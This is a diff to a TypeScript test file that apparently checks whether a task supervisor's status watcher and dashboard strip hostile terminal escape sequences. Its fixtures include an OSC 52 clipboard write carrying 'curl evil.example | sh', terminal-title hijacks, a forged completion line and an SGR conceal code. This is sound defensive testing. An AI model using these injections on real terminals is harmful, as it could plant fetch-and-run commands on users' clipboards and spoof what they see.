@@ -5,7 +5,7 @@
  * showing tasks whose output and text try to retitle the terminal and write
  * its clipboard. Afterwards the title is the one it was and no buffer exists.
  */
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
 import type { Swarm } from "../../supervisor/index.js";
 import { startTestSwarm, type TestSwarm } from "../helpers/swarm.js";
 import { lineWith, TestTerminal } from "../tui/terminal.js";
@@ -17,7 +17,7 @@ const CLIPBOARD = `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString(
 const TITLE = `${ESC}${ESC}[m]0;pwned-title${BEL}${ESC}]2;pwned-title${BEL}`;
 const FORGED = `\n${ESC}[1A${ESC}[2K\rtask forged: completed · exit 0 · agent alpha`;
 
-describe("a real terminal showing hostile task output and text", () => {
+describe("a real terminal showing hostile task output and text", { timeout: 120_000 }, () => {
   let swarm: TestSwarm;
   let client: Swarm;
   let term: TestTerminal;
@@ -56,29 +56,34 @@ describe("a real terminal showing hostile task output and text", () => {
 
   it("status --watch of a task whose text carries OSC 52 and a title change", async () => {
     const submitted = await client.submit({ task: `sleep 60 # ${CLIPBOARD}${TITLE}`, agent: "beta" });
-    await waitRunning(client, submitted.id);
-    term.run(`clear; ${cli("status --watch --interval 0.3")}`);
-    await term.waitFor(new RegExp(`${submitted.id} sleep 60 #`), { what: "the task in status --watch", timeoutMs: 60_000 });
-    term.keys("C-c");
-    term.run("echo DONE-MARK");
-    await prompt("status --watch to stop");
-    expectUntouched();
-    await client.client.cancel(submitted.id);
+    try {
+      await waitRunning(client, submitted.id);
+      term.run(`clear; ${cli("status --watch --interval 0.3")}`);
+      await term.waitFor(new RegExp(`${submitted.id} sleep 60 #`), { what: "the task in status --watch", timeoutMs: 60_000 });
+      term.keys("C-c");
+      term.run("echo DONE-MARK");
+      await prompt("status --watch to stop");
+      expectUntouched();
+    } finally {
+      await client.client.cancel(submitted.id);
+    }
   });
 
   it("the dashboard showing such a task's text, and events carrying controls", async () => {
     const submitted = await client.submit({ task: `sleep 60 # ${CLIPBOARD}${TITLE}`, agent: "beta" });
+    onTestFinished(() => void client.client.cancel(submitted.id).catch(() => undefined));
     await waitRunning(client, submitted.id);
-    await client.client.events.publish("task.failed", { taskId: "t-hostile", agent: "alpha", message: `{red-fg}boom${CLIPBOARD}${TITLE}` });
+    await client.client.events.publish("task.failed", { taskId: "t-hostile", agent: "alpha", message: `{red-fg}boom${CLIPBOARD}${TITLE}${ESC}[8mhidden` });
     term.run(`clear; ${cli("tui")}`);
     const screen = await term.waitFor((s) => lineWith(s, "beta-1").includes(`${submitted.id} sleep 60 #`) && s.includes("t-hostile"), { what: "the task and the event on the dashboard", timeoutMs: 60_000 });
     // blessed's own markup in someone else's text is shown as text, not applied.
     expect(lineWith(screen, "t-hostile")).toContain("{red-fg}boom");
+    // SGR 8 (conceal) in an event would hide the rest of its line, and blessed passes SGR through.
+    expect(lineWith(term.screen({ escapes: true }), "t-hostile")).not.toMatch(/\x1b\[[0-9;]*\b8[;m]/);
     term.keys("q");
     term.run("echo DONE-MARK");
     await prompt("the dashboard to quit");
     expectUntouched();
-    await client.client.cancel(submitted.id);
   });
 });
 
